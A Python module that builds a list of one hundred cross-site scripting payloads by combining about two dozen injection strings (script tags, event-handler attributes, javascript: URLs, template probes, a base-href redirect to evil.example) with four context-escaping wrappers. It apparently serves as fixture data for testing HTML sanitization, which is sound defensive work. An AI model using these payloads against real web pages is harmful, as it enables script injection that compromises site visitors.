"""A hundred values that run in a page which takes data for markup."""

from __future__ import annotations

_ATTACKS = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", "javascript:alert(1)",
    "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>", "<math><mi xlink:href='javascript:alert(1)'>", "{{7*7}}<b>alert</b>",
    "${alert(1)}", "{% print(alert) %}", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<style>@import 'javascript:alert(1)';</style>", "<base href=//evil.example/>alert",
    "<link rel=stylesheet href=//e>alert",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>", "<form action=javascript:alert(1)><button>alert",
]  # fmt: skip
_WRAPPINGS = ["{}", '" {} x="', "' {} x='", "</td></table></title></textarea></style>{}"]

PAYLOADS = [
    wrapping.format(attack) if wrapping == "{}" else wrapping.replace("{}", attack)
    for wrapping in _WRAPPINGS
    for attack in _ATTACKS
]
